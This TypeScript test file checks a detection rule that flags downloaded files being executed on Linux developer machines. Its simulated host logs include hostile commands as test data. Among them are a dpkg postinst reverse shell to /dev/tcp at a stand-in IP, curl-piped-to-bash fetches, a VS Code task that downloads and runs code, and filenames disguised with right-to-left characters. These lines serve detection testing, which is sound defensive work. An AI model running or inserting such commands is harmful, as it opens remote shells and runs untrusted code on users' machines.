import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { HOUR, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  factorsOf,
  firesAt,
  inOrder,
  linksHold,
  recording,
  scanFolder,
  scanLog,
  storyOf,
  strengthsOf,
  valuesOf,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const FIREFOX = '/usr/lib/firefox/firefox';

/** The developer's browser (or another client) downloads a file; then a shell of the developer. */
function downloaded(path: string, client = FIREFOX): { log: HostLog; client: Process; shell: Process } {
  const log = new HostLog();
  const running = log.desktop('dev').run(client).connect('203.0.113.80', 443);
  running.write(`${path}.part`).rename(`${path}.part`, path);
  log.wait(MINUTE);
  return { log, client: running, shell: log.shell('dev') };
}

/** A developer who browsed some minutes ago. */
function browsed(): { log: HostLog; shell: Process } {
  const log = new HostLog();
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(5 * MINUTE);
  return { log, shell: log.shell('dev') };
}

test('recorded: a script saved by Chromium and run with sh is told from the download to the call home', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.chromium-script-sh');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['file.created', `${truth.path('save')}.crdownload`, truth.pid('save')],
    ['file.renamed', truth.path('save'), truth.pid('save')],
    ['content.executed', truth.path('save'), 'is run by an interpreter', truth.pid('execute')],
    ['network.connected', truth.path('fetch'), truth.pid('call-out'), truth.path('call-out')],
  ]);
  assert.ok(alert.links.every(link => link.strength === 'observed'));
  assert.deepEqual(valuesOf(alert, 'host'), [truth.host]);
  assert.deepEqual(valuesOf(alert, 'user'), [truth.user]);
  assert.deepEqual(valuesOf(alert, 'file'), [truth.path('save')]);
  assert.deepEqual(valuesOf(alert, 'address'), [truth.path('call-out')]);
  assert.ok(factorsOf(alert).includes('the name is that of a usual lure'));
});

test('recorded: a program received in Telegram', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.telegram-elf');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['file.created', truth.path('save'), truth.pid('save')],
    ['file.renamed', truth.path('save')],
    ['file.made-executable', truth.path('chmod'), truth.pid('chmod')],
    ['content.executed', truth.path('execute'), truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.ok(factorsOf(alert).includes('came through a messenger'));
  assert.ok(factorsOf(alert).includes('made executable by hand'));
});

test('recorded: out of an archive, by make, by a script, a program', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.archive-make');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  linksHold(alert);
  inOrder(alert, [
    ['file.renamed', truth.path('save'), truth.pid('save')],
    ['file.opened', truth.pid('unpack'), truth.path('save')],
    ['file.written', truth.pid('unpack')],
    ['content.executed', 'build tool', truth.pid('make')],
    ['content.executed', truth.pid('script')],
    ['content.executed', truth.path('execute'), truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.ok(factorsOf(alert).includes('came out of an archive'));
});

test('recorded: cron runs the download later', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.download-run-by-cron');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  inOrder(alert, [
    ['file.renamed', truth.path('save'), truth.pid('save')],
    ['file.made-executable', truth.path('save')],
    ['content.executed', truth.path('execute'), truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
});

test('recorded: curl piped into bash after a chat, and what that leaves running', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.chat-curl-pipe-bash');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  inOrder(alert, [
    ['process.started', truth.pid('fetch'), 'fetches'],
    ['content.executed', 'standard input', truth.pid('shell')],
    ['content.executed', truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
  assert.ok(factorsOf(alert).includes('a browser or messenger was used just before'));
  assert.ok(strengthsOf(alert, 'content').includes('inferred'), 'a pipeline is not recorded');
});

test('recorded: a tarball from a recruiter, run with python', async () => {
  const truth = recording('an0321-nonenterprise-download-executed/fires.recruiter-tarball-python');
  const alert = firesAt((await scanFolder(truth.folder)).alerts, 'AN0321', 'high');
  inOrder(alert, [
    ['file.renamed', truth.path('save'), truth.pid('save')],
    ['process.started', truth.pid('unpack'), truth.path('save')],
    ['file.written', truth.pid('unpack'), 'main.py'],
    ['content.executed', 'main.py', truth.pid('execute')],
    ['network.connected', truth.pid('beacon'), truth.path('beacon')],
  ]);
});

for (const [what, name] of [
  ['a double extension', 'offer.pdf.sh'],
  ['right-to-left signs', 'offer_\u202efdp.sh'],
  ['a trailing blank', 'offer.pdf '],
  ['a leading dot', '.offer'],
] as const)
  test(`a name disguised by ${what} raises a download that is run`, async () => {
    const path = `/home/dev/Downloads/${name}`;
    const { log, shell } = downloaded(path);
    shell.run(['/bin/bash', path]).read(path);
    const alert = firesAt(await scanLog(log), 'AN0321', 'medium');
    assert.ok(factorsOf(alert).includes('disguised name'));
    assert.ok(!alert.title.includes('\u202e'), 'the alert itself is not turned around');
  });

for (const client of ['/usr/bin/telegram-desktop', '/home/dev/Telegram/Telegram'])
  test(`a file received by ${client} and run`, async () => {
    const path = '/home/dev/Downloads/Telegram Desktop/photo';
    const { log, shell } = downloaded(path, client);
    shell.run(['/bin/chmod', '+x', path]).chmod(path, 0o755);
    shell.run([path]).connect(OUT, 443);
    const alert = firesAt(await scanLog(log), 'AN0321', 'high');
    assert.ok(factorsOf(alert).includes('came through a messenger'));
    inOrder(alert, [
      ['file.created', path],
      ['content.executed', path],
      ['network.connected', `${OUT}:443`],
    ]);
  });

test('a messenger that starts a shell on what it received', async () => {
  const path = '/home/dev/Downloads/tool.sh';
  const { log, client } = downloaded(path, '/usr/lib/slack/slack');
  client.run(`/bin/sh ${path}`).read(path).run(`/usr/bin/curl http://${OUT}`).connect(OUT, 80);
  const alert = firesAt(await scanLog(log), 'AN0321', 'high');
  assert.ok(factorsOf(alert).includes('started by the client itself'));
});

test('curl piped into bash is a first after browsing, and a habit afterwards', async () => {
  const { log } = browsed();
  for (const day of [0, 1, 2]) {
    log.wait(day * 24 * HOUR);
    log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
    log.wait(MINUTE);
    const [curl, bash] = log.shell('dev').pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/bin/bash');
    curl?.connect('203.0.113.90', 443);
    bash?.run('/usr/bin/wget -q http://static.example.com/b').connect('203.0.113.91', 80);
  }
  const severities = (await scanLog(log)).map(alert => alert.severity);
  assert.deepEqual(severities, ['high', 'informational', 'informational']);
});

test('a substituted command, and a script fetched to a file, count like the pipeline', async () => {
  const substituted = browsed();
  const stages = substituted.shell.pipeline('/bin/bash /dev/fd/63', '/usr/bin/curl -fsSL https://paste.example.net/x');
  stages[1]?.connect('203.0.113.90', 443);
  firesAt(await scanLog(substituted.log), 'AN0321', 'low');
  const toFile = browsed();
  toFile.shell.run('/usr/bin/wget https://paste.example.net/x.sh').connect('203.0.113.90', 443).write('/home/dev/x.sh');
  toFile.log.wait(MINUTE);
  toFile.shell.run('/bin/sh x.sh').read('x.sh').run(`/usr/bin/curl http://${OUT}/b`).connect(OUT, 80);
  firesAt(await scanLog(toFile.log), 'AN0321', 'medium');
});

test('the window between browsing and command is a tunable', async () => {
  const { log, shell } = browsed();
  shell.pipeline('/usr/bin/curl -fsSL https://paste.example.net/x', '/bin/bash')[0]?.connect('203.0.113.90', 443);
  assert.equal(storyOf(await scanLog(log), 'AN0321').severity, 'medium');
  const settings = { BrowseToCommandWindow: MINUTE };
  assert.equal(storyOf(await scanLog(log, { settings }), 'AN0321').severity, 'informational');
});

test('a launcher saved by the browser', async () => {
  const path = '/home/dev/Downloads/Offer.desktop';
  const { log } = downloaded(path);
  const launcher = log.desktop('dev').run(`/usr/bin/gio launch ${path}`).read(path);
  launcher
    .run(['/bin/sh', '-c', `curl http://${OUT}`])
    .run(`/usr/bin/curl http://${OUT}`)
    .connect(OUT, 80);
  inOrder(firesAt(await scanLog(log), 'AN0321', 'high'), [
    ['file.created', path],
    ['content.executed', path, 'launcher'],
    ['network.connected', `${OUT}:80`],
  ]);
});

test('code of an archive runs by npm, as a module, by make, by a task of an editor', async () => {
  const ways: ((log: HostLog, shell: Process) => void)[] = [
    (_, shell) => {
      const npm = shell.run('/usr/bin/npm install', { by: '/usr/bin/node' }).read('package.json');
      npm.run(['/bin/sh', '-c', 'node index.js']).run('/usr/bin/node index.js').read('index.js').connect(OUT, 443);
    },
    (_, shell) => shell.run('/usr/bin/python3 -m pkg').read('pkg/__main__.py').connect(OUT, 443),
    (_, shell) => {
      const make = shell.run('/usr/bin/make').read('Makefile');
      make
        .run(['/bin/sh', '-c', `curl http://${OUT}`])
        .run(`/usr/bin/curl http://${OUT}`)
        .connect(OUT, 80);
    },
    (log, _) => {
      const editor = log
        .desktop('dev')
        .run('/usr/share/code/code .', { cwd: '/home/dev/w' })
        .read('.vscode/tasks.json');
      const task = editor.run(['/bin/bash', '-c', `curl http://${OUT}/x | sh`]);
      task.pipeline(`/usr/bin/curl http://${OUT}/x`, '/bin/sh')[0]?.connect(OUT, 80);
    },
  ];
  for (const [index, way] of ways.entries()) {
    const { log, shell } = downloaded('/home/dev/Downloads/test.tgz');
    shell.cwd = '/home/dev/w';
    const tar = shell.run('/usr/bin/tar xzf /home/dev/Downloads/test.tgz').read('/home/dev/Downloads/test.tgz');
    for (const name of ['package.json', 'index.js', 'pkg/__main__.py', 'Makefile', '.vscode/tasks.json'])
      tar.write(name);
    log.wait(MINUTE);
    way(log, shell);
    firesAt(await scanLog(log), 'AN0321', index < 3 ? 'high' : 'medium');
  }
});

test('a package whose maintainer script reaches out', async () => {
  const deb = '/home/dev/Downloads/v.deb';
  const { log, shell } = downloaded(deb);
  const sudo = shell.run('/usr/bin/sudo dpkg -i Downloads/v.deb');
  const dpkg = sudo.run('/usr/bin/dpkg -i Downloads/v.deb', { who: { ...sudo.who, uid: 0 } }).read(deb);
  dpkg.run(`/usr/bin/dpkg-deb --control ${deb} /var/lib/dpkg/tmp.ci`).read(deb).write('/var/lib/dpkg/tmp.ci/postinst');
  dpkg.rename('/var/lib/dpkg/tmp.ci/postinst', '/var/lib/dpkg/info/v.postinst');
  const script = dpkg.run('/var/lib/dpkg/info/v.postinst configure', { by: '/bin/sh' });
  script.run(['/bin/bash', '-c', `bash -i >& /dev/tcp/${OUT}/443`]).connect(OUT, 443);
  inOrder(firesAt(await scanLog(log), 'AN0321', 'medium'), [
    ['file.created', deb],
    ['network.connected', `${OUT}:443`],
  ]);
});

test("a snap browser's own folder", async () => {
  const path = '/home/dev/snap/firefox/common/Downloads/x.sh';
  const { log, shell } = downloaded(path, '/snap/firefox/4/usr/lib/firefox/firefox');
  shell.run(`/bin/sh ${path}`).read(path).run(`/usr/bin/curl http://${OUT}`).connect(OUT, 80);
  firesAt(await scanLog(log), 'AN0321', 'high');
});

test('without file records the place and the browser carry it, low, and the gap is named', async () => {
  const log = new HostLog({ files: false });
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(MINUTE);
  log.shell('dev').run('./Downloads/view').connect(OUT, 443);
  const alert = storyOf(await scanLog(log), 'AN0321');
  assert.equal(alert.severity, 'low');
  assert.ok(factorsOf(alert).includes('only the place tells that it was downloaded'));
  assert.ok(alert.missing.some(text => text.includes('does not record file creation')));
  assert.ok(alert.links.some(link => link.from === 'file.created' && link.strength === 'unavailable'));
});

test('without file records the words of what fetched and copied it tell where the content went', async () => {
  const log = new HostLog({ files: false });
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(MINUTE);
  const shell = log.shell('dev');
  shell.run(`/usr/bin/aria2c -q -d /tmp/dl http://${OUT}/calendar-sync`).connect(OUT, 80);
  shell.run('/usr/bin/install -m 755 /tmp/dl/calendar-sync /home/dev/bin/calsync');
  log.wait(MINUTE);
  shell.run('/usr/bin/perl /home/dev/bin/calsync').connect(OUT, 443);
  const alert = firesAt(await scanLog(log), 'AN0321', 'high');
  assert.equal(alert.title, 'Download run: /home/dev/bin/calsync');
  assert.ok(alert.steps.some(step => step.summary.includes('puts it at /tmp/dl/calendar-sync')));
});

test('without file records what a compiler made of fetched sources is no download', async () => {
  const log = new HostLog({ files: false });
  log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
  log.wait(MINUTE);
  const shell = log.shell('dev');
  shell.run(`/usr/bin/wget -q http://${OUT}/hello.tgz`, { cwd: '/home/dev/src' }).connect(OUT, 80);
  shell.run('/usr/bin/tar xf hello.tgz', { cwd: '/home/dev/src' });
  const make = shell.run('/usr/bin/make check', { cwd: '/home/dev/src' });
  make.run('/usr/bin/gcc -o hello hello.c', { cwd: '/home/dev/src' });
  make.run('/home/dev/src/hello', { cwd: '/home/dev/src' });
  atMostAt(await scanLog(log), 'informational');
});

test('without file records what speaks past the site by a port of its own is medium, and by one of the site itself low', async () => {
  const told = async (address: string, port: number): Promise<string> => {
    const log = new HostLog({ files: false });
    log.desktop('dev').run(FIREFOX).connect('203.0.113.80', 443);
    log.wait(MINUTE);
    log.shell('dev').run('/bin/sh Downloads/view.sh').run('/home/dev/Downloads/view').connect(address, port);
    const alert = storyOf(await scanLog(log), 'AN0321');
    assert.ok(!factorsOf(alert).includes('run within the hour'), 'nobody knows when it came');
    return alert.severity;
  };
  assert.equal(await told(OUT, 4444), 'medium');
  assert.equal(await told(OUT, 443), 'low');
  assert.equal(await told('10.0.0.7', 5432), 'low');
});
